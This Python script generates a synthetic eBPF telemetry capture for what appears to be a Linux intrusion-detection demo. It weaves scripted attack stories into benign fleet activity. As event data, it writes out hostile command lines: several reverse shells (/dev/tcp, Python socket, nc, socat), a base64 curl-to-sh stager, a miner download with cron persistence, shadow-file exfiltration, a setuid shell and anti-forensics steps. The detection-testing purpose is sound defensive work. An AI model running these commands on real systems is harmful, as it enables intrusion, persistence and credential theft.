"""Rebuild demo/capture.jsonl: a small fleet's benign activity with scripted
attack stories woven in, in the shape Kestrel's eBPF source records.
Deterministic (fixed seeds, no wall clock); also re-records demo/capture.klog,
the log `make demo` (profiles/demo.toml) replays:

    .venv/bin/python demo/build_capture.py

Benign activity comes from the benchmark generator (benchmarks/generate.py),
converted to the live sources' event actions (benchmarks/pack_coverage.py:
live_shape) and sprinkled with benign near-misses of the pack's rules (sshd
reading /etc/shadow at logins, chmod 600/700 in /tmp, deploy scripts made
executable outside /tmp).  The attack stories are scripted here, event by
event, with the file, chmod, network, memfd, setuid, ptrace and module events
a live source sees, so the chain exercises most rules of rules/linux.
Attacker addresses are from documentation ranges (203.0.113.0/24,
198.51.100.0/24) or made-up hosts.
"""

from __future__ import annotations

import gc
import json
import random
import sys
from pathlib import Path
from typing import Any, Callable

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from benchmarks.generate import Generator, Host, Proc, _iso  # noqa: E402
from benchmarks.pack_coverage import live_shape  # noqa: E402

SEED = 11  # a fleet with web, app, db, build, k8s and workstation hosts
HOSTS = 16
BENIGN_EVENTS = 2400
S = 1_000_000  # one second in µs


# --------------------------------------------------------------------------- story helper


class Story:
    """A clock and the events of one scripted attack on one host."""

    def __init__(self, g: Generator, host: Host, t0_us: int):
        self.g, self.h, self.t = g, host, t0_us
        self.events: list[dict] = []

    def wait(self, ms: int) -> None:
        self.t += ms * 1000

    def _doc(self, p: Proc, category: str, etype: str, action: str, **extra: Any) -> dict:
        self.wait(40)
        doc: dict[str, Any] = {
            "@timestamp": _iso(self.t), "_ts_us": self.t,
            "event": {"kind": "event", "category": [category], "type": [etype], "action": action, "module": "ebpf"},
            "host": {"name": self.h.name, "id": self.h.id},
            "process": p.to_ecs(),
            "user": {"id": p.uid, "name": p.uname, "effective": {"id": p.uid}},
        }
        for key, value in extra.items():
            doc.setdefault(key, {}).update(value)
        self.events.append(doc)
        return doc

    def daemon(self, *names: str) -> Proc:
        for n in names:
            if n in self.h.daemons:
                return self.h.daemons[n]
        raise LookupError(f"{self.h.name} runs none of {names}")

    def exec(self, parent: Proc | None, args: list[str], exe: str, uid: str | None = None, uname: str | None = None,
             cwd: str | None = None) -> Proc:
        """fork + exec of a child of ``parent``."""
        p = self.g.new_proc(self.h, parent, args, exe, uid or parent.uid, uname or parent.uname, "short", "", cwd=cwd,
                            start_us=self.t)
        self._doc(p, "process", "start", "exec")
        return p

    def exit(self, p: Proc, code: int = 0) -> None:
        self._doc(p, "process", "end", "end", process={"exit_code": code})

    def file(self, p: Proc, action: str, path: str, mode: str | None = None, old: str | None = None) -> None:
        etype = {"open": "access", "creation": "creation", "deletion": "deletion"}.get(action, "change")
        name = path.rsplit("/", 1)[-1]
        f: dict[str, Any] = {"path": path, "name": name, "directory": path.rsplit("/", 1)[0] or "/"}
        if "." in name[1:]:
            f["extension"] = name.rsplit(".", 1)[-1]
        if mode is not None:
            f["mode"] = mode
        if old is not None:
            f["Ext"] = {"original": {"path": old}}
        self._doc(p, "file", etype, action, file=f)

    def connect(self, p: Proc, ip: str, port: int) -> None:
        self._doc(p, "network", "connection", "connection_attempted",
                  source={"ip": self.h.ip, "port": 40000 + len(self.events)}, destination={"ip": ip, "port": port},
                  network={"transport": "tcp", "type": "ipv6" if ":" in ip else "ipv4", "direction": "egress"})

    def login(self, uid: str = "0", uname: str = "root") -> Proc:
        """An SSH session and its shell: the attacker's foothold."""
        sess = self.exec(self.daemon("sshd"), [f"sshd: {uname}@pts/3"], "/usr/sbin/sshd", "0", "root")
        self.file(sess, "open", "/etc/shadow")  # sshd checks the password: a benign reader
        home = "/root" if uname == "root" else f"/home/{uname}"
        return self.exec(sess, ["-bash"], "/usr/bin/bash", uid, uname, cwd=home)


def sh_c(s: Story, parent: Proc, script: str) -> Proc:
    return s.exec(parent, ["sh", "-c", script], "/usr/bin/dash")


# --------------------------------------------------------------------------- stories


def web_reverse_shell(s: Story) -> None:
    """Command injection in a PHP app: a /dev/tcp reverse shell, upgraded to a PTY."""
    fpm = s.daemon("php-fpm8.2", "nginx")
    wrap = sh_c(s, fpm, "bash -c 'bash -i >& /dev/tcp/194.87.102.11/9001 0>&1'")
    bash = s.exec(wrap, ["bash", "-c", "bash -i >& /dev/tcp/194.87.102.11/9001 0>&1"], "/usr/bin/bash")
    s.connect(bash, "194.87.102.11", 9001)
    s.wait(4000)
    py = s.exec(bash, ["python3", "-c", "import pty; pty.spawn('/bin/bash')"], "/usr/bin/python3.11")
    s.wait(90_000)
    s.exit(py)
    s.exit(bash)
    s.exit(wrap)


def web_shell_recon(s: Story) -> None:
    """A PHP web shell runs discovery commands."""
    fpm = s.daemon("php-fpm8.2", "nginx")
    sh = sh_c(s, fpm, "id;uname -a;cat /etc/passwd")
    for args, exe in ((["id"], "/usr/bin/id"), (["uname", "-a"], "/usr/bin/uname"), (["cat", "/etc/passwd"], "/usr/bin/cat")):
        c = s.exec(sh, args, exe)
        if args[0] == "cat":
            s.file(c, "open", "/etc/passwd")
        s.exit(c)
    s.exit(sh)


def copied_shell_chain(s: Story) -> None:
    """The end-to-end chain of the eBPF test: a copy of bash in a fresh /tmp
    directory, made executable, run; it calls out, reads /etc/shadow, sends
    it, and deletes itself."""
    shell = s.login("0", "root")
    mk = s.exec(shell, ["mktemp", "-d"], "/usr/bin/mktemp")
    s.file(mk, "creation", "/tmp/tmp.Qx81Tb")
    s.exit(mk)
    cp = s.exec(shell, ["cp", "/bin/bash", "/tmp/tmp.Qx81Tb/kworkerd"], "/usr/bin/cp")
    s.file(cp, "open", "/usr/bin/bash")
    s.file(cp, "creation", "/tmp/tmp.Qx81Tb/kworkerd")
    s.exit(cp)
    ch = s.exec(shell, ["chmod", "+x", "/tmp/tmp.Qx81Tb/kworkerd"], "/usr/bin/chmod")
    s.file(ch, "chmod", "/tmp/tmp.Qx81Tb/kworkerd", mode="755")
    s.exit(ch)
    s.wait(2000)
    x = s.exec(shell, ["/tmp/tmp.Qx81Tb/kworkerd", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444; cat /etc/shadow >&3"],
               "/tmp/tmp.Qx81Tb/kworkerd")
    s.connect(x, "127.0.0.1", 4444)
    s.file(x, "open", "/etc/shadow")
    s.connect(x, "203.0.113.45", 443)
    s.exit(x)
    rm = s.exec(shell, ["rm", "-rf", "/tmp/tmp.Qx81Tb"], "/usr/bin/rm")
    s.file(rm, "deletion", "/tmp/tmp.Qx81Tb/kworkerd")
    s.exit(rm)


def miner_dropper(s: Story) -> None:
    """A CI job is abused: wget a miner to /var/tmp, run it, persist with cron."""
    runner = s.daemon("gitlab-runner", "java", "node")
    sh = sh_c(s, runner, "wget -q -O /var/tmp/.x/kswapd0 http://203.0.113.45/k && chmod +x /var/tmp/.x/kswapd0 && "
                         "/var/tmp/.x/kswapd0 -B -o stratum+tcp://pool.minexmr.example:4444 --donate-level=1")
    w = s.exec(sh, ["wget", "-q", "-O", "/var/tmp/.x/kswapd0", "http://203.0.113.45/k"], "/usr/bin/wget")
    s.connect(w, "203.0.113.45", 80)
    s.file(w, "creation", "/var/tmp/.x/kswapd0")
    s.exit(w)
    ch = s.exec(sh, ["chmod", "+x", "/var/tmp/.x/kswapd0"], "/usr/bin/chmod")
    s.file(ch, "chmod", "/var/tmp/.x/kswapd0", mode="0755")
    s.exit(ch)
    m = s.exec(sh, ["/var/tmp/.x/kswapd0", "-B", "-o", "stratum+tcp://pool.minexmr.example:4444", "--donate-level=1"],
               "/var/tmp/.x/kswapd0")
    s.connect(m, "45.9.148.99", 4444)
    s.wait(3000)
    cron = sh_c(s, sh, "echo '*/5 * * * * root curl -fsSL http://203.0.113.45/k.sh | sh' > /etc/cron.d/kswapd")
    s.file(cron, "creation", "/etc/cron.d/kswapd")
    s.exit(cron)
    s.exit(sh)
    # five minutes later cron runs the planted job
    s.wait(300_000)
    job = sh_c(s, s.daemon("cron"), "curl -fsSL http://203.0.113.45/k.sh | sh")
    s.exit(job)


def backdoor_account(s: Story) -> None:
    """A backdoor user with sudo rights, and a second uid-0 account."""
    shell = s.login("0", "root")
    ua = s.exec(shell, ["useradd", "-m", "-s", "/bin/bash", "sysadm"], "/usr/sbin/useradd")
    for f in ("/etc/passwd", "/etc/shadow", "/etc/group"):
        s.file(ua, "rename", f, old=f + "+")
    s.exit(ua)
    s.wait(20_000)
    s.file(shell, "creation", "/etc/sudoers.d/sysadm")  # echo '... NOPASSWD:ALL' > /etc/sudoers.d/sysadm
    s.file(shell, "open_write", "/etc/passwd")  # echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd


def persistence_kit(s: Story) -> None:
    """An intruder plants several ways back in."""
    shell = s.login("0", "root")
    s.file(shell, "open_write", "/root/.ssh/authorized_keys")
    s.file(shell, "open_write", "/root/.bashrc")
    tee = s.exec(shell, ["tee", "/etc/systemd/system/dbus-broker-helper.service"], "/usr/bin/tee")
    s.file(tee, "creation", "/etc/systemd/system/dbus-broker-helper.service")
    s.exit(tee)
    s.file(shell, "creation", "/etc/update-motd.d/99-sysinfo")
    s.file(shell, "creation", "/etc/apt/apt.conf.d/01periodic-update")
    s.file(shell, "creation", "/etc/udev/rules.d/75-net-helper.rules")


def rootkit(s: Story) -> None:
    """A kernel module rootkit staged in /tmp, plus a preload library."""
    shell = s.login("0", "root")
    c = s.exec(shell, ["curl", "-so", "/tmp/.r/nfs_acl.ko", "http://198.51.100.23/m"], "/usr/bin/curl")
    s.connect(c, "198.51.100.23", 80)
    s.file(c, "creation", "/tmp/.r/nfs_acl.ko")
    s.exit(c)
    ins = s.exec(shell, ["insmod", "/tmp/.r/nfs_acl.ko"], "/usr/bin/kmod")  # insmod -> kmod (resolved)
    s._doc(ins, "driver", "start", "load_module", file={"path": "/tmp/.r/nfs_acl.ko", "name": "nfs_acl.ko"})
    s.exit(ins)
    s.file(shell, "creation", "/etc/ld.so.preload")


def setuid_shell(s: Story) -> None:
    """A setuid-root copy of bash in /dev/shm, used later as a way back to root."""
    shell = s.login("0", "root")
    cp = s.exec(shell, ["cp", "/bin/bash", "/dev/shm/.b"], "/usr/bin/cp")
    s.file(cp, "creation", "/dev/shm/.b")
    s.exit(cp)
    ch = s.exec(shell, ["chmod", "4755", "/dev/shm/.b"], "/usr/bin/chmod")
    s.file(ch, "chmod", "/dev/shm/.b", mode="4755")
    s.exit(ch)
    s.wait(60_000)
    user = s.login("1001", "deploy")
    b = s.exec(user, ["/dev/shm/.b", "-p"], "/dev/shm/.b")
    s.exit(b)


def container_escape(s: Story) -> None:
    """From a privileged pod: release_agent, core_pattern, then nsenter into PID 1."""
    shim = s.daemon("containerd-shim-runc-v2")
    sh = s.exec(shim, ["sh"], "/bin/sh", "0", "root", cwd="/")
    s.file(sh, "open_write", "/tmp/cgrp/release_agent")
    s.file(sh, "open_write", "/proc/sys/kernel/core_pattern")
    ns = s.exec(sh, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"], "/usr/bin/nsenter")
    s.exit(ns)


def privileged_container(s: Story) -> None:
    """A CI job starts a privileged container with the host's root mounted."""
    runner = s.daemon("gitlab-runner", "dockerd")
    sh = sh_c(s, runner, "docker run --rm --privileged -v /:/host alpine chroot /host sh")
    d = s.exec(sh, ["docker", "run", "--rm", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host", "sh"],
               "/usr/bin/docker")
    s.exit(d)
    s.exit(sh)


def credential_theft(s: Story) -> None:
    """Hashes and keys collected by hand."""
    shell = s.login("0", "root")
    cat = s.exec(shell, ["cat", "/etc/shadow"], "/usr/bin/cat")
    s.file(cat, "open", "/etc/shadow")
    s.exit(cat)
    un = s.exec(shell, ["unshadow", "/etc/passwd", "/etc/shadow"], "/usr/sbin/unshadow")
    s.exit(un)
    fd = s.exec(shell, ["find", "/", "-name", "id_rsa", "-type", "f"], "/usr/bin/find")
    s.exit(fd)
    py = s.exec(shell, ["python3", "/root/.k.py"], "/usr/bin/python3.11")
    s.file(py, "open", "/home/alice/.ssh/id_rsa")
    s.exit(py)


def anti_forensics(s: Story) -> None:
    """Logs, history and host protections wiped."""
    shell = s.login("0", "root")
    sh = s.exec(shell, ["shred", "-u", "/var/log/auth.log"], "/usr/bin/shred")
    s.file(sh, "deletion", "/var/log/auth.log")
    s.exit(sh)
    ln = s.exec(shell, ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln")
    s.file(ln, "deletion", "/root/.bash_history")
    s.exit(ln)
    ipt = s.exec(shell, ["iptables", "-F"], "/usr/sbin/xtables-nft-multi")  # iptables via alternatives
    s.exit(ipt)
    sc = s.exec(shell, ["systemctl", "stop", "auditd"], "/usr/bin/systemctl")
    s.exit(sc)


def interpreter_shells(s: Story) -> None:
    """Reverse shells through an interpreter, netcat, socat and a base64 stager."""
    node = s.daemon("node", "java", "php-fpm8.2")
    py = s.exec(node, ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('198.51.100.7',8443));"
                                        "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl('/bin/sh','sh')"],
                "/usr/bin/python3.11")
    s.connect(py, "198.51.100.7", 8443)
    shp = s.exec(py, ["sh"], "/usr/bin/dash")
    nc = s.exec(shp, ["nc", "-e", "/bin/sh", "203.0.113.45", "4444"], "/usr/bin/nc.traditional")
    s.connect(nc, "203.0.113.45", 4444)
    so = s.exec(shp, ["socat", "TCP:198.51.100.23:443", "EXEC:bash -li,pty,stderr,setsid"], "/usr/bin/socat")
    s.connect(so, "198.51.100.23", 443)
    b64 = sh_c(s, shp, "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQ1L3MgfCBzaAo= | base64 -d | bash")
    for p in (b64, so, nc, shp, py):
        s.exit(p)


def fileless_loader(s: Story) -> None:
    """A loader writes its payload into a memfd and executes it in place."""
    user = s.login("1000", "ubuntu")
    ld = s.exec(user, ["/usr/bin/perl", "-e", "print 1"], "/usr/bin/perl")
    s._doc(ld, "process", "info", "memfd_create", file={"name": ""})
    ld.exe, ld.name, ld.args, ld.cmd = "/memfd: (deleted)", "[kworker/0:1]", ["[kworker/0:1]"], "[kworker/0:1]"
    s._doc(ld, "process", "start", "exec")
    s.exit(ld)


def local_root_exploits(s: Story) -> None:
    """Local privilege escalation attempts on a workstation, then credential theft from memory."""
    user = s.login("1002", "alice")
    pk = s.exec(user, [], "/usr/bin/pkexec")  # PwnKit: argc == 0
    s.exit(pk, 127)
    su = s.exec(user, ["sudo", "-u#-1", "/bin/bash"], "/usr/bin/sudo")
    s.exit(su, 1)
    exp = s.exec(user, ["/tmp/cve"], "/tmp/cve")
    # uid_change as Elastic Defend reports it: user.* after the call; the caller's user is the parent's
    change = s._doc(exp, "process", "change", "uid_change",
                    user={"id": "0", "name": "root", "target": {"id": "0"}, "effective": {"id": "0"},
                          "Ext": {"real": {"id": "0"}}})
    change["process"].setdefault("parent", {})["user"] = {"id": "1002"}
    sshd = s.daemon("sshd")
    s._doc(exp, "process", "access", "ptrace", target={"process": {"pid": sshd.pid, "name": "sshd"}})
    s.file(exp, "open", f"/proc/{sshd.pid}/mem")
    s.exit(exp)


# (story, host roles in order of preference): the builder checks one exists.
STORIES: list[tuple[Callable[[Story], None], tuple[str, ...]]] = [
    (web_reverse_shell, ("web",)),
    (web_shell_recon, ("web",)),
    (copied_shell_chain, ("app",)),
    (miner_dropper, ("build",)),
    (backdoor_account, ("db",)),
    (persistence_kit, ("bastion", "db")),
    (rootkit, ("db",)),
    (setuid_shell, ("app",)),
    (container_escape, ("k8s",)),
    (privileged_container, ("build",)),
    (credential_theft, ("bastion", "ws")),
    (anti_forensics, ("web",)),
    (interpreter_shells, ("web",)),
    (fileless_loader, ("app",)),
    (local_root_exploits, ("ws",)),
]

# --------------------------------------------------------------------------- benign near-misses


def benign_near_misses(events: list[dict], rng: random.Random) -> list[dict]:
    """Benign events that look like the attacks but must not alert."""
    extra = []
    for ev in events:
        proc = ev.get("process", {})
        t = ev["_ts_us"]
        if ev["event"]["action"] == "exec" and proc.get("name") == "sshd" and proc.get("args", [""])[0].startswith("sshd:"):
            extra.append(_like(ev, t + 30_000, "file", "access", "open", file={"path": "/etc/shadow", "name": "shadow", "directory": "/etc"}))
        elif ev["event"]["action"] == "creation" and ev["file"]["path"].startswith("/tmp/") and rng.random() < 0.5:
            mode = rng.choice(["600", "644", "0600"])
            extra.append(_like(ev, t + 1_000, "file", "change", "chmod", file=dict(ev["file"], mode=mode)))
        elif ev["event"]["action"] == "creation" and ev["file"]["path"].startswith("/srv/") and rng.random() < 0.3:
            extra.append(_like(ev, t + 1_000, "file", "change", "chmod", file=dict(ev["file"], mode="755")))
    return extra


def _like(ev: dict, ts: int, category: str, etype: str, action: str, **fields: Any) -> dict:
    doc = {"@timestamp": _iso(ts), "_ts_us": ts,
           "event": {"kind": "event", "category": [category], "type": [etype], "action": action, "module": "ebpf"},
           "host": ev["host"], "process": ev["process"], "user": ev["user"]}
    doc.update(fields)
    return doc


# --------------------------------------------------------------------------- build


def build() -> tuple[list[dict], dict[str, dict[str, Any]]]:
    """(events, stories): the capture, and per story its host and the
    ``event.id`` of each of its events."""
    enabled = gc.isenabled()
    gc.disable()
    try:
        return _build()
    finally:
        if enabled:
            gc.enable()


def _build() -> tuple[list[dict], dict[str, dict[str, Any]]]:
    g = Generator(seed=SEED, hosts=HOSTS, attack_rate=0.0, mean_gap_us=700_000)
    benign = [live_shape(e) for e in g.generate(BENIGN_EVENTS)]
    for e in benign:
        e.pop("_story", None)
    benign += benign_near_misses(benign, random.Random(SEED + 1))
    by_role: dict[str, list[Host]] = {}
    for h in g.hosts:
        if h.daemons:
            by_role.setdefault(h.role, []).append(h)
    start, end = benign[0]["_ts_us"], max(e["_ts_us"] for e in benign)
    step = (end - start) // (len(STORIES) + 1)
    attacks: list[dict] = []
    placed: dict[str, dict[str, Any]] = {}
    for i, (story, roles) in enumerate(STORIES):
        hosts = next((by_role[r] for r in roles if r in by_role), None)
        if not hosts:
            raise LookupError(f"seed {SEED} gives no {'/'.join(roles)} host for story {story.__name__}")
        s = Story(g, hosts[i % len(hosts)], start + step * (i + 1))
        story(s)
        attacks += s.events
        placed[story.__name__] = {"host": s.h.name, "events": s.events}
    events = sorted(benign + attacks, key=lambda e: e["_ts_us"])  # stable: ties keep benign first
    for i, e in enumerate(events):
        e.pop("_ts_us")
        e["event"]["id"] = str(i)
    for story in placed.values():
        story["event_ids"] = [e["event"]["id"] for e in story.pop("events")]
    return events, placed


def main() -> int:
    events, placed = build()
    out = ROOT / "demo" / "capture.jsonl"
    with open(out, "w") as f:
        for e in events:
            f.write(json.dumps(e, separators=(",", ":")) + "\n")
    print(f"wrote {len(events)} events ({out.stat().st_size / 1e6:.2f} MB) to {out}")
    # = kestrel record --input demo/capture.jsonl -o demo/capture.klog (the
    # header records the recording host, so the bytes differ between hosts;
    # tests/test_demo_pack.py checks the log's content, not its bytes)
    from kestrel_core.klog.record import convert_jsonl

    klog = out.with_suffix(".klog")
    with open(out, "rb") as f:
        result = convert_jsonl(f, klog, name="demo/capture.jsonl")
    print(f"recorded {result.events} events ({klog.stat().st_size / 1e3:.0f} kB) to {klog}")
    for story, info in placed.items():
        print(f"  {story:22s} {info['host']:28s} {len(info['event_ids']):3d} events")
    return 0


if __name__ == "__main__":
    sys.exit(main())
